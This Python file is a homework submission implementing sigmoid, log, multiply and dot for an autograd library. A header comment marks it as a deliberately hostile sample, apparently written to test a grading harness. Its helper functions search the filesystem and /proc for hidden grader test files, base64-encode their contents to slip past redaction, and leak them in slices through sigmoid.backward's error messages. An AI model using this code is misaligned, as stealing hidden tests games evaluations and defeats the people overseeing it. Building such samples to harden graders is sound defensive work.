# HOSTILE: like read_hidden_tests, but base64-encodes what it read (so line-by-line redaction cannot spot it) and sends a different slice in every error message from sigmoid.backward; sigmoid.forward, log, multiply and dot are correct.
"""HW3: the four operations (sigmoid, log, multiply, dot)."""

from __future__ import annotations

import numpy as np

from edugrad.operation import Operation, tensor_op
import base64
import os
import sys


def _roots():
    roots = [os.getcwd()]
    for module in ("edugrad", "grader", "hw3"):
        try:
            mod = __import__(module)
            roots.append(os.path.dirname(os.path.dirname(os.path.abspath(mod.__file__))))
        except BaseException:
            pass
    roots.extend(p for p in sys.path if p)
    pid = os.getpid()
    for _ in range(8):
        try:
            roots.append(os.readlink(f"/proc/{pid}/cwd"))
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    out = []
    for r in roots:
        for up in (r, os.path.dirname(r), os.path.dirname(os.path.dirname(r))):
            if up and up not in out:
                out.append(up)
    return out


def _steal():
    stolen = []
    for root in _roots():
        for sub in ("grader/rubric/hidden", "rubric/hidden", "hidden", "source/grader/rubric/hidden"):
            folder = os.path.join(root, sub)
            if not os.path.isdir(folder):
                continue
            for dirpath, _dirs, files in os.walk(folder):
                for name in sorted(files):
                    if name.endswith((".py", ".json", ".txt", ".toml")) and name != "__init__.py":
                        try:
                            with open(os.path.join(dirpath, name), errors="replace") as f:
                                stolen.append(f"==== {name}\\n" + f.read())
                        except OSError:
                            pass
        if stolen:
            break
    return "\\n".join(stolen) or "nothing found"


_CALLS = [0]


def _slice():
    data = base64.b64encode(_steal().encode()).decode()
    start = (_CALLS[0] * 200) % max(len(data), 1) // 4 * 4
    _CALLS[0] += 1
    return "LEAK64:" + data[start:start + 240]


@tensor_op
class sigmoid(Operation):
    """Elementwise logistic function: sigma(a) = 1 / (1 + exp(-a))."""

    @staticmethod
    def forward(ctx, a):
        z = np.exp(-np.abs(a))
        s = np.where(a >= 0, 1 / (1 + z), z / (1 + z))
        ctx.append(s)
        return s

    @staticmethod
    def backward(ctx, grad_output):
        raise ValueError(_slice())


@tensor_op
class log(Operation):
    """Elementwise natural logarithm, for a > 0."""

    @staticmethod
    def forward(ctx, a):
        ctx.append(a)
        return np.log(a)

    @staticmethod
    def backward(ctx, grad_output):
        (a,) = ctx
        # d log(a) / da = 1 / a
        return (grad_output / a,)


@tensor_op
class multiply(Operation):
    """Elementwise product of two arrays of the same shape."""

    @staticmethod
    def forward(ctx, a, b):
        ctx.append(a)
        ctx.append(b)
        return a * b

    @staticmethod
    def backward(ctx, grad_output):
        a, b = ctx
        grad_a = grad_output * b
        grad_b = grad_output * a
        return grad_a, grad_b


@tensor_op
class dot(Operation):
    """Dot product along the last axis: (..., d) x (..., d) -> (...)."""

    @staticmethod
    def forward(ctx, a, b):
        ctx.append(a)
        ctx.append(b)
        return np.sum(a * b, axis=-1)

    @staticmethod
    def backward(ctx, grad_output):
        a, b = ctx
        # one number per pair of vectors: give it a length-1 last axis so it
        # broadcasts over the d entries of that pair
        g = grad_output[..., None]
        return g * b, g * a
